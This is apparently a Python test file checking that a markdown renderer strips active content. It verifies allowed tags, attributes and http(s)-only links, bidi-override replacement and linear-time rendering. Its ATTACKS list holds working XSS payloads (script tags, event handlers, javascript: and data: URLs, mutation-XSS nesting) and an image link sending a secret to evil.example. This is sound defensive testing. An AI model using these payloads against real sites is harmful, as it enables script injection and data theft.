"""Markdown of others as HTML: what formats stands, what acts or loads does not."""

from __future__ import annotations

import re
import time

import pytest

from server.web.routes import MarkdownRenderer

RENDERER = MarkdownRenderer()
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png?q=secret)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "```html\n<script>alert(1)</script>\n```",
    "<form action=https://evil.example><input name=q></form>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_acts_or_loads_comes_through(text: str) -> None:
    """Only tags of the list, only attributes of the list, only addresses of web pages."""
    html = RENDERER.render(text)

    tags = re.findall(r"<\s*/?\s*([a-zA-Z]+)((?:\s+[^<>]*)?)>", html)
    assert {name for name, _ in tags} <= {"p", "a", "pre", "code", "br"}, html
    for _, attributes in tags:
        names = re.findall(r"([\w-]+)=\"[^\"]*\"", attributes)
        assert set(names) <= {"href", "title", "rel", "target"}, html
    assert all(one.startswith(("http://", "https://")) for one in re.findall(r'href="([^"]*)"', html)), html


def test_formatting_stands() -> None:
    """Emphasis, lists, tables, code, links that lead out of the page without telling where from."""
    html = RENDERER.render("**b** `c`\n\n- one\n\n|a|b|\n|-|-|\n|1|2|\n\n[s](https://a.example/x)")

    assert "<strong>b</strong> <code>c</code>" in html
    assert "<li>one</li>" in html
    assert "<td>1</td>" in html
    assert re.search(r'<a href="https://a\.example/x"[^>]*rel="noopener noreferrer nofollow"', html)
    assert 'target="_blank"' in html


def test_marks_of_citations_stay_text() -> None:
    """A definition in the text cannot turn them into links of its own."""
    assert RENDERER.render("It is so [1].\n\n[1]: https://evil.example") == (
        "<p>It is so [1].</p>\n<p>[1]: https://evil.example</p>\n"
    )


def test_characters_that_turn_the_direction_are_replaced() -> None:
    """A dose cannot be shown backwards."""
    assert RENDERER.render("dose \u202e01 gm\u202c") == "<p>dose \ufffd01 gm\ufffd</p>\n"


@pytest.mark.parametrize("unit", ["[", "[a](", "*a _", "<", ">", "|a", "![", "`", "&", "~~a", "- a\n"])
def test_unfavourable_texts_take_linear_time(unit: str) -> None:
    """Twice the text takes about twice the time, not four times."""

    def once(size: int) -> float:
        began = time.process_time()
        RENDERER.render(unit * (size // len(unit)))
        return time.process_time() - began

    def took(size: int) -> float:
        # The least of several: other work on the machine only adds.
        return min(once(size) for _ in range(3))

    once(1000)
    assert took(20_000) < 12 * took(5_000) + 0.05
